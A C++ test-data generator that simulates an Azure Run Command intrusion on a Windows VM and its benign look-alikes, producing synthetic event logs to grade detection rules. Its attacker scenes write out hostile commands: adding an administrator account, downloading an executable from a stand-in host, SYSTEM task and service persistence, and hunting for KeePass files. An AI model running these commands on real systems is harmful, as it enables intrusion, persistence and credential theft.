// vm-win01, 12 and 13 May 2026. An intruder with a role in the cloud subscription uses Run Command
// to look around, to make an account and to leave something behind, while the people who run the
// machine do things that look much the same.
#include <fmt/format.h>

#include "tests/support/samples/scenes.hpp"
#include "tests/support/samples/windows_host.hpp"

namespace stemma::samples {

namespace {

constexpr const char* kHost = "vm-win01";
constexpr const char* kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr const char* kPlugins = "C:\\Packages\\Plugins\\";
const std::string kRunCommand =
    std::string(kPlugins) + "Microsoft.CPlat.Core.RunCommandWindows\\1.1.22\\";
const std::string kManaged =
    std::string(kPlugins) + "Microsoft.CPlat.Core.RunCommandHandlerWindows\\2.0.8\\";
const std::string kCustomScript =
    std::string(kPlugins) + "Microsoft.Compute.CustomScriptExtension\\1.10.15\\";

const Account kSystem = {"S-1-5-18", "SYSTEM", "NT AUTHORITY"};
const Account kNetworkService = {"S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY", 0x3e4};
const Account kOperator = {"S-1-5-21-1004336348-1177238915-682003330-1001",
                           "ops-mara",
                           "VM-WIN01",
                           0x5a3f1,
                           2,
                           "High",
                           "S-1-16-12288",
                           "%%1937"};

class VmWin01 {
 public:
  VmWin01(Collection& collection, Truth& truth) : collection_(collection), truth_(truth) {}

  void tell() {
    boot();
    background();
    reconnaissance();           // script3: what the published rule is for
    script_without_children();  // script4: what no process rule can see
    script_with_parameters();   // script5
    custom_script_extension();
    operator_at_the_console();
    reused_pid();
    managed_runs();
    eleventh_run_and_later();  // script12
    collect();
  }

 private:
  WindowsProcess run(const WindowsProcess& parent, std::string_view program,
                     std::string command_line) {
    return host_.start(parent, {system32(program), std::move(command_line)});
  }
  void begin_and_end(const WindowsProcess& parent, std::string_view program,
                     std::string command_line) {
    host_.end(run(parent, program, std::move(command_line)));
  }

  // ---- the machine itself ----

  void boot() {
    truth_.scene(kHost, "boot",
                 "The machine starts; Sysmon comes after services and agents, so their starts are "
                 "in Security only.");
    host_.at("2026-05-12T05:58:00.250Z");
    host_.system.push_back(support::system_boot(kHost, host_.now()));
    host_.wait(900);
    host_.system.push_back(support::system_6005(kHost, host_.now()));
    host_.logging.sysmon = false;
    const WindowsProcess kernel = host_.running("System", "", 4, kSystem);
    const WindowsProcess smss = run(kernel, "smss.exe", "\\SystemRoot\\System32\\smss.exe");
    const WindowsProcess wininit = run(smss, "wininit.exe", "wininit.exe");
    services_ = run(wininit, "services.exe", "C:\\Windows\\system32\\services.exe");
    winlogon_ = run(smss, "winlogon.exe", "winlogon.exe");
    run(wininit, "lsass.exe", "C:\\Windows\\system32\\lsass.exe");
    schedule_ = run(services_, "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
    host_.start(services_, {system32("svchost.exe"),
                            "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                            &kNetworkService});
    dcom_ = run(services_, "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p");
    agent_ = host_.start(services_,
                         {"C:\\WindowsAzure\\Packages\\GuestAgent\\WindowsAzureGuestAgent.exe",
                          "C:\\WindowsAzure\\Packages\\GuestAgent\\WindowsAzureGuestAgent.exe"});
    host_.start(services_, {"C:\\WindowsAzure\\Packages\\WaAppAgent.exe",
                            "C:\\WindowsAzure\\Packages\\WaAppAgent.exe"});
    host_.start(services_, {"C:\\Windows\\Sysmon64.exe", "C:\\Windows\\Sysmon64.exe"});
    host_.wait(1'500);
    host_.sysmon_service_starts();
    host_.logging.sysmon = true;
    for (const char* service : {"Windows Event Log", "Task Scheduler", "WindowsAzureGuestAgent"}) {
      host_.wait(220);
      host_.system.push_back(support::system_7036(kHost, host_.now(), service, "running"));
    }
  }

  void background() {
    truth_.scene(kHost, "background",
                 "Services, scheduled tasks and an interactive session: nothing to find.");
    host_.at("2026-05-12T06:05:00.100Z");
    begin_and_end(schedule_, "taskhostw.exe", "taskhostw.exe Install $(Arg0)");
    begin_and_end(dcom_, "wbem\\WmiPrvSE.exe",
                  "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
    host_.at("2026-05-12T07:00:00.050Z");
    const WindowsProcess task =
        run(schedule_, "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"C:\\Ops\\rotate-logs.cmd\"");
    begin_and_end(task, "forfiles.exe",
                  "forfiles  /p C:\\Ops\\logs /m *.log /d -14 /c \"cmd /c del @path\"");
    host_.end(task);

    host_.at("2026-05-12T08:11:30.000Z");
    host_.security.push_back(
        support::security_4624(kHost, host_.now(),
                               {{"SubjectUserSid", "S-1-5-18"},
                                {"SubjectUserName", "vm-win01$"},
                                {"SubjectDomainName", "WORKGROUP"},
                                {"SubjectLogonId", "0x3e7"},
                                {"TargetUserSid", kOperator.sid},
                                {"TargetUserName", kOperator.name},
                                {"TargetDomainName", kOperator.domain},
                                {"TargetLogonId", "0x5a3f1"},
                                {"LogonType", "10"},
                                {"LogonProcessName", "User32 "},
                                {"AuthenticationPackageName", "Negotiate"},
                                {"WorkstationName", "VM-WIN01"},
                                {"ProcessName", "C:\\Windows\\System32\\svchost.exe"},
                                {"IpAddress", "198.51.100.23"},
                                {"IpPort", "50112"},
                                {"ElevatedToken", "%%1842"}}));
    const WindowsProcess userinit = host_.start(
        winlogon_, {system32("userinit.exe"), "C:\\Windows\\system32\\userinit.exe", &kOperator});
    explorer_ = host_.start(userinit, {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                                       nullptr, "C:\\Windows\\system32\\"});
    host_.end(userinit);
    host_.wait(40'000);
    run(explorer_, "mmc.exe",
        "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\services.msc\"");
  }

  // ---- Run Command, first generation ----

  /// The chain that the agent starts for a script; returns the PowerShell that runs it.
  WindowsProcess run_command(const std::string& script_and_parameters) {
    extension_ = host_.start(agent_, {kRunCommand + "bin\\RunCommandExtension.exe",
                                      '"' + kRunCommand + "bin\\RunCommandExtension.exe\" enable",
                                      nullptr, kRunCommand});
    host_.wait(310);
    shell_ = host_.start(extension_, {system32("cmd.exe"),
                                      "\"cmd\" /c powershell -ExecutionPolicy Unrestricted -File " +
                                          script_and_parameters,
                                      nullptr, kRunCommand + "Downloads\\"});
    console_ =
        run(shell_, "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    // cmd hands on the rest of its line with the blank in front: two blanks here.
    const WindowsProcess out = host_.start(
        shell_,
        {kPowerShell, "powershell  -ExecutionPolicy Unrestricted -File " + script_and_parameters});
    host_.powershell_starts(out);
    return out;
  }

  void run_command_ends(const WindowsProcess& script) {
    host_.powershell_ends(script);
    host_.end(script);
    host_.end(console_);
    host_.end(shell_);
    host_.wait(200);
    host_.end(extension_);
  }

  void leave_script(int number, const std::string& text, const std::string& output) {
    std::string lines = text;
    for (std::size_t at = 0; (at = lines.find('\n', at)) != std::string::npos; at += 2)
      lines.insert(at, "\r");
    const std::string folder =
        "vm-win01/C/Packages/Plugins/Microsoft.CPlat.Core.RunCommandWindows/1.1.22/";
    collection_.add(fmt::format("{}Downloads/script{}.ps1", folder, number), lines);
    collection_.add(
        fmt::format("{}Status/{}.status", folder, number),
        fmt::format(
            "[{{\"version\":\"1.0\",\"timestampUTC\":\"{}\",\"status\":{{\"name\":\"Run "
            "Command\",\"operation\":\"Command Execution Finished\","
            "\"status\":\"success\",\"code\":\"0\",\"formattedMessage\":{{\"lang\":\"en-US\","
            "\"message\":\"Finished executing command\"}},"
            "\"substatus\":[{{\"name\":\"StdOut\",\"status\":\"success\",\"code\":"
            "\"ComponentStatus/StdOut/succeeded\",\"formattedMessage\":"
            "{{\"lang\":\"en-US\",\"message\":\"{}\"}}}},{{\"name\":\"StdErr\",\"status\":"
            "\"success\",\"code\":"
            "\"ComponentStatus/StdErr/"
            "succeeded\",\"formattedMessage\":{{\"lang\":\"en-US\",\"message\":\"\"}}}}]}}}}]\n",
            format_time(host_.now(), 0), output));
  }

  void reconnaissance() {
    truth_.scene(kHost, "reconnaissance",
                 "Run Command v1, script3.ps1: who am I, make an account, fetch a program, install "
                 "it as a service and as a task.");
    host_.at("2026-05-12T09:14:02.400Z");
    const std::string text =
        "whoami /all\nnet user svc-sync Sp-7fQ2w9xL! /add\nnet localgroup administrators svc-sync "
        "/add\n"
        "curl.exe -s -o C:\\ProgramData\\sync\\winsync.exe "
        "https://files.northgate.example/winsync.exe\n"
        "cmd /c \"schtasks /create /tn WinSync /sc hourly /ru SYSTEM /tr "
        "C:\\ProgramData\\sync\\winsync.exe\"\n"
        "New-Service -Name WinSyncSvc -BinaryPathName C:\\ProgramData\\sync\\winsync.exe\n";
    const WindowsProcess script = run_command("script3.ps1");
    script3_ = script;
    host_.script_block(script, text, kRunCommand + "Downloads\\script3.ps1");
    const std::string direct =
        "direct child of powershell with the handler's literal command line, one digit";

    const WindowsProcess whoami =
        run(script, "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all");
    truth_.must(Rule::published, whoami.start,
                direct + "; in Sysmon and in Security, and still one finding");
    host_.end(whoami);

    const WindowsProcess add_user = run(
        script, "net.exe", "\"C:\\Windows\\system32\\net.exe\" user svc-sync Sp-7fQ2w9xL! /add");
    truth_.must(Rule::published, add_user.start, direct);
    const WindowsProcess net1 =
        run(add_user, "net1.exe", "C:\\Windows\\system32\\net1 user svc-sync Sp-7fQ2w9xL! /add");
    truth_.must(
        Rule::descendant, net1.start,
        "net starts net1: a grandchild of the script, which the published rule does not see");
    host_.end(net1);
    host_.end(add_user);

    const WindowsProcess add_group =
        run(script, "net.exe",
            "\"C:\\Windows\\system32\\net.exe\" localgroup administrators svc-sync /add");
    truth_.must(Rule::published, add_group.start, direct);
    const WindowsProcess group1 =
        run(add_group, "net1.exe",
            "C:\\Windows\\system32\\net1 localgroup administrators svc-sync /add");
    truth_.must(Rule::descendant, group1.start, "grandchild of the script by way of net");
    host_.end(group1);
    host_.end(add_group);

    const WindowsProcess curl =
        run(script, "curl.exe",
            "\"C:\\Windows\\system32\\curl.exe\" -s -o C:\\ProgramData\\sync\\winsync.exe "
            "https://files.northgate.example/winsync.exe");
    truth_.must(Rule::published, curl.start, direct);
    host_.connects(curl, "203.0.113.45", 443, "files.northgate.example");
    host_.writes_file(curl, "C:\\ProgramData\\sync\\winsync.exe");
    host_.end(curl);

    const WindowsProcess shell = run(script, "cmd.exe",
                                     "\"C:\\Windows\\system32\\cmd.exe\" /c \"schtasks /create /tn "
                                     "WinSync /sc hourly /ru SYSTEM "
                                     "/tr C:\\ProgramData\\sync\\winsync.exe\"");
    truth_.must(Rule::published, shell.start, direct);
    const WindowsProcess schtasks = run(shell, "schtasks.exe",
                                        "schtasks  /create /tn WinSync /sc hourly /ru SYSTEM /tr "
                                        "C:\\ProgramData\\sync\\winsync.exe");
    truth_.must(Rule::descendant, schtasks.start, "a cmd lies between the script and schtasks");
    host_.end(schtasks);
    host_.end(shell);

    host_.wait(400);
    host_.system.push_back(
        support::system_7045(kHost, host_.now(),
                             {{"ServiceName", "WinSyncSvc"},
                              {"ImagePath", "C:\\ProgramData\\sync\\winsync.exe"},
                              {"ServiceType", "user mode service"},
                              {"StartType", "demand start"},
                              {"AccountName", "LocalSystem"}}));
    run_command_ends(script);
    leave_script(3, text, "vm-win01\\\\system");

    host_.at("2026-05-12T10:00:00.010Z");
    const WindowsProcess task = host_.start(
        schedule_, {"C:\\ProgramData\\sync\\winsync.exe", "C:\\ProgramData\\sync\\winsync.exe",
                    &kSystem, "C:\\Windows\\system32\\"});
    truth_.quiet(task.start,
                 "what the script planted, but the task scheduler started it: no lineage leads "
                 "back to the run, and no rule that "
                 "asks for lineage can find it");
    truth_.near(
        Rule::descendant, task.start, "descendant of", "",
        "no ancestor is a script; one clause, but so it is with every process that no script "
        "started",
        false);
    host_.connects(task, "203.0.113.45", 443, "files.northgate.example");
  }

  void script_without_children() {
    truth_.scene(kHost, "script without children",
                 "Run Command v1, script4.ps1: PowerShell alone, no program started. Its own "
                 "start, 4104 and the status file are all there is.");
    host_.at("2026-05-12T10:31:10.000Z");
    const std::string text =
        "Get-ChildItem C:\\Users -Recurse -Filter *.kdbx | Select-Object FullName\n";
    const WindowsProcess script = run_command("script4.ps1");
    truth_.quiet(script.start,
                 "the script's own start is not a child of a script, and it has no children");
    host_.script_block(script, text, kRunCommand + "Downloads\\script4.ps1");
    host_.wait(2'300);
    run_command_ends(script);
    leave_script(4, text, "C:\\\\Users\\\\ops-mara\\\\Documents\\\\team.kdbx");
  }

  void script_with_parameters() {
    truth_.scene(kHost, "script with parameters",
                 "Run Command v1, script5.ps1 with parameters behind its name.");
    host_.at("2026-05-12T10:47:00.700Z");
    const std::string text = "param($Target, $Count)\nping.exe -n $Count $Target\n";
    const WindowsProcess script = run_command("script5.ps1 -Target vm-files01 -Count 2");
    host_.script_block(script, text, kRunCommand + "Downloads\\script5.ps1");
    const WindowsProcess ping =
        run(script, "PING.EXE", "\"C:\\Windows\\system32\\PING.EXE\" -n 2 vm-files01");
    truth_.must(
        Rule::parameters, ping.start,
        "the parent's command line goes on behind .ps1, where the published rule allows nothing");
    truth_.near(Rule::published, ping.start, "process.parent.command_line like",
                "powershell  -ExecutionPolicy Unrestricted -File script5.ps1 -Target vm-files01 "
                "-Count 2",
                "parameters behind .ps1, where the pattern ends");
    host_.end(ping);
    run_command_ends(script);
    leave_script(5, text, "Reply from 10.20.0.9");
  }

  void eleventh_run_and_later() {
    truth_.scene(kHost, "script number of two digits",
                 "Run Command v1, script12.ps1, a day later.");
    host_.at("2026-05-13T07:02:41.300Z");
    const std::string text = "ipconfig /all\nquser\n";
    const WindowsProcess script = run_command("script12.ps1");
    host_.script_block(script, text, kRunCommand + "Downloads\\script12.ps1");
    for (const char* program : {"ipconfig.exe", "quser.exe"}) {
      const WindowsProcess child = run(script, program,
                                       fmt::format("\"C:\\Windows\\system32\\{}\"{}", program,
                                                   program[0] == 'i' ? " /all" : ""));
      truth_.must(Rule::script_number, child.start,
                  "script12.ps1: the published rule's ? stands for one character only");
      truth_.near(Rule::published, child.start, "process.parent.command_line like",
                  "powershell  -ExecutionPolicy Unrestricted -File script12.ps1",
                  "two digits where ? stands for one character");
      host_.end(child);
    }
    run_command_ends(script);
    leave_script(12, text, "Windows IP Configuration");
  }

  // ---- Run Command, second generation ----

  void managed_runs() {
    truth_.scene(kHost, "managed runs",
                 "Managed Run Command: `inventory` in Windows PowerShell, `patchcheck` in "
                 "PowerShell 7. Handler and file names are plausible, not measured.");
    host_.at("2026-05-12T15:20:05.000Z");
    const WindowsProcess handler = host_.start(
        agent_, {kManaged + "bin\\RunCommandHandler.exe",
                 '"' + kManaged + "bin\\RunCommandHandler.exe\" enable", nullptr, kManaged});
    const WindowsProcess script = host_.start(
        handler,
        {kPowerShell,
         fmt::format("\"{}\" -ExecutionPolicy Unrestricted -File \"{}Downloads\\inventory.0.ps1\"",
                     kPowerShell, kManaged)});
    truth_.must(Rule::managed_windows, script.start,
                "child of a program in the managed handler's folder");
    host_.powershell_starts(script);
    const WindowsProcess systeminfo =
        run(script, "systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\" /fo csv");
    truth_.must(
        Rule::managed_windows, systeminfo.start,
        "child of powershell that was given a file from the managed handler's Downloads folder");
    host_.end(systeminfo);
    host_.powershell_ends(script);
    host_.end(script);
    host_.wait(700);
    const WindowsProcess core = host_.start(
        handler,
        {"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
         "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -ExecutionPolicy Unrestricted -File \"" +
             kManaged + "Downloads\\patchcheck.1.ps1\""});
    truth_.must(Rule::managed_windows, core.start,
                "child of a program in the managed handler's folder");
    const WindowsProcess hostname =
        run(core, "HOSTNAME.EXE", "\"C:\\Windows\\system32\\HOSTNAME.EXE\"");
    truth_.must(Rule::pwsh, hostname.start,
                "child of PowerShell 7 that runs a file from the handler's Downloads folder");
    host_.end(hostname);
    host_.end(core);
    host_.end(handler);
  }

  // ---- what looks like it ----

  void custom_script_extension() {
    truth_.scene(kHost, "custom script extension",
                 "Another extension of the same agent runs files of the owner's choice with the "
                 "same options.");
    host_.at("2026-05-12T11:05:20.000Z");
    const WindowsProcess handler =
        host_.start(agent_, {kCustomScript + "bin\\CustomScriptHandler.exe",
                             '"' + kCustomScript + "bin\\CustomScriptHandler.exe\" enable", nullptr,
                             kCustomScript + "Downloads\\0\\"});
    const auto runs = [&](const std::string& file) {
      const WindowsProcess shell = run(
          handler, "cmd.exe", "\"cmd\" /c powershell -ExecutionPolicy Unrestricted -File " + file);
      return std::pair(
          shell, host_.start(shell, {kPowerShell,
                                     "powershell  -ExecutionPolicy Unrestricted -File " + file}));
    };
    const auto [first_shell, install] = runs("install.ps1");
    const WindowsProcess msiexec =
        run(install, "msiexec.exe", "\"C:\\Windows\\system32\\msiexec.exe\" /i monitoring.msi /qn");
    truth_.quiet(msiexec.start, "the file is not called script<number>.ps1");
    truth_.near(Rule::published, msiexec.start, "process.parent.command_line like",
                "powershell  -ExecutionPolicy Unrestricted -File install.ps1",
                "the file is not called script<number>.ps1");
    host_.end(msiexec);
    host_.end(install);
    host_.end(first_shell);

    const auto [second_shell, numbered] = runs("script1.ps1");
    const WindowsProcess w32tm =
        run(numbered, "w32tm.exe", "\"C:\\Windows\\system32\\w32tm.exe\" /resync");
    truth_.must(
        Rule::published, w32tm.start,
        "not Run Command, but to the letter what the published rule asks for: the owner called the "
        "file script1.ps1. Only the "
        "ancestor CustomScriptHandler.exe tells, so the finding must not be graded confirmed");
    host_.end(w32tm);
    host_.end(numbered);
    host_.end(second_shell);
    host_.end(handler);
  }

  void operator_at_the_console() {
    truth_.scene(kHost, "operator at the console",
                 "ops-mara runs own scripts by hand, with the same options: once from the Run box, "
                 "once from cmd in other case.");
    host_.at("2026-05-12T13:30:00.000Z");
    const WindowsProcess typed = host_.start(
        explorer_, {kPowerShell, "powershell -ExecutionPolicy Unrestricted -File script1.ps1",
                    nullptr, "C:\\Ops\\"});
    host_.powershell_starts(typed);
    const WindowsProcess findstr =
        run(typed, "findstr.exe",
            "\"C:\\Windows\\system32\\findstr.exe\" /s error C:\\Ops\\logs\\*.log");
    truth_.must(Rule::other_spelling, findstr.start,
                "one blank behind powershell: the literal rule is silent, the tolerant one speaks; "
                "an operator's own script, so at "
                "most possible");
    truth_.near(Rule::published, findstr.start, "process.parent.command_line like",
                "powershell -ExecutionPolicy Unrestricted -File script1.ps1",
                "one blank behind powershell where the handler writes two");
    host_.end(findstr);
    host_.powershell_ends(typed);
    host_.end(typed);

    host_.wait(60'000);
    const WindowsProcess shell = run(explorer_, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    const WindowsProcess other =
        host_.start(shell, {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe",
                            "PowerShell.exe  -ExecutionPolicy Unrestricted -File script2.ps1",
                            nullptr, "C:\\Ops\\"});
    const WindowsProcess tasklist =
        run(other, "tasklist.exe", "\"C:\\Windows\\system32\\tasklist.exe\" /svc");
    truth_.must(Rule::other_spelling, tasklist.start,
                "PowerShell.exe in other case: == and like tell case apart, : does not");
    truth_.near(Rule::published, tasklist.start, "process.parent.name == \"powershell.exe\"",
                "PowerShell.exe",
                "== tells case apart; the command line begins otherwise too, so two clauses fail",
                false);
    host_.end(tasklist);
    host_.end(other);
    begin_and_end(shell, "whoami.exe", "whoami");
  }

  void reused_pid() {
    truth_.scene(kHost, "pid in use again",
                 "A program of the operator's gets the pid that script3's powershell had.");
    host_.at("2026-05-12T14:05:00.000Z");
    const WindowsProcess notepad =
        host_.start(explorer_, {system32("notepad.exe"),
                                "\"C:\\Windows\\system32\\notepad.exe\" C:\\Ops\\notes.txt",
                                nullptr, "C:\\Ops\\", script3_.pid});
    truth_.quiet(notepad.start, "the pid is the script's, the process is not");
    const WindowsProcess printing =
        host_.start(notepad, {"C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 12288"});
    truth_.quiet(printing.start,
                 "its parent's pid once was script3's powershell, which had ended hours before");
    host_.end(printing);
    host_.end(notepad);
  }

  void collect() {
    const std::string logs = "vm-win01/C/Windows/System32/winevt/Logs/";
    collection_.add(logs + "Microsoft-Windows-Sysmon%4Operational.evtx",
                    evtx_file(host_.sysmon, 1));
    collection_.add(logs + "Security.evtx", evtx_file(host_.security, 48'211));
    collection_.add(logs + "Microsoft-Windows-PowerShell%4Operational.evtx",
                    evtx_file(host_.powershell, 317));
    collection_.add(logs + "Windows PowerShell.evtx", evtx_file(host_.windows_powershell, 2'040));
    collection_.add(logs + "System.evtx", evtx_file(host_.system, 9'120));
    for (const Rule rule : {Rule::managed_linux, Rule::managed_runas, Rule::other_interpreter})
      truth_.blind(rule, kHost, "other_system", "the rule is for Linux");
    truth_.tree(kHost, host_.tree());
  }

  Collection& collection_;
  Truth& truth_;
  WindowsHost host_{kHost, 0x7A3C91D2, 640};
  WindowsProcess services_, winlogon_, schedule_, dcom_, agent_, explorer_;
  WindowsProcess extension_, shell_, console_;  // of the run that is going on
  WindowsProcess script3_;
};

}  // namespace

void tell_vm_win01(Collection& collection, Truth& truth) {
  VmWin01(collection, truth).tell();
}

}  // namespace stemma::samples
